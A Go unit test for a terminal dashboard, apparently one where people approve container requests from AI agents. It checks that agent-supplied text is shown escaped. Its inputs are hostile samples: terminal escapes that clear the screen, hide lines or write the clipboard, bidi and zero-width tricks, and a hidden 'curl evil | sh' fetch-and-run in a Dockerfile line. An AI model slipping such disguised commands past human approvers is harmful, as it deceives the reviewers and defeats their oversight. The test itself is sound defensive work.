package dashboard

import (
	"testing"
	"unicode"

	tea "github.com/charmbracelet/bubbletea"

	"github.com/bottle-dev/bottle/runner/state"
)

// TestAgentTextIsShownEscaped puts terminal escapes, bidi overrides and
// zero-width characters in every field an agent can reach (request id,
// reason and lines, its output, audit details, an error) and checks that
// none reaches the screen raw while each is shown as a visible escape.
func TestAgentTextIsShownEscaped(t *testing.T) {
	f := newFake()
	r := f.requests[0].Request
	r.ID = "req-\x1b]0;owned\x07"
	r.Reason = "need \u202egol.txt\u202c and ff\u200bmpeg \x1b[2J"
	r.Dockerfile = []string{"RUN echo safe \u2066&& curl evil | sh\u2069", "RUN \x1b[1A\x1b[2Kecho hidden"}
	f.logs[idDemo] = "plain \x1b[31mred\x1b[0m \x1b]52;c;ZXZpbA==\x07 clip \u202eesrever\n"
	f.audit[idDemo] = append(f.audit[idDemo], state.AuditEvent{Time: testNow, Event: "request_rejected",
		Details: map[string]string{"request": "x\x1b]0;t\x07", "reason": "bad \u200b"}})
	f.status[2].Error = "read metadata.json: \x1b[H\x1b[2J\u202e"
	m := newModel(t, f)
	next, _ := m.Update(tea.WindowSizeMsg{Width: 120, Height: 40})
	m = next.(Model)
	v := m.View()
	checkClean(t, v)
	mustContain(t, v, `req-\x1b]0;owned\x07`, `\u202egol.txt\u202c`, `ff\u200bmpeg`, `\x1b[2J`,
		`\u2066&& curl evil | sh\u2069`, `RUN \x1b[1A\x1b[2Kecho hidden`, `\x1b]52;c;ZXZpbA==\x07`, "plain red", `\u202eesrever`,
		`x\x1b]0;t\x07`, `bad \u200b`)
	// The approval's status line quotes the request id.
	checkClean(t, press(t, m, "a").View())
	// The corrupt row's error.
	m = press(t, m, "j", "j")
	v = m.View()
	checkClean(t, v)
	mustContain(t, v, `\x1b[H\x1b[2J\u202e`)
}

func checkClean(t *testing.T, v string) {
	t.Helper()
	for _, c := range v {
		if c != '\n' && (unicode.IsControl(c) || unicode.Is(unicode.Cf, c)) {
			t.Fatalf("screen writes %U raw:\n%q", c, v)
		}
	}
}
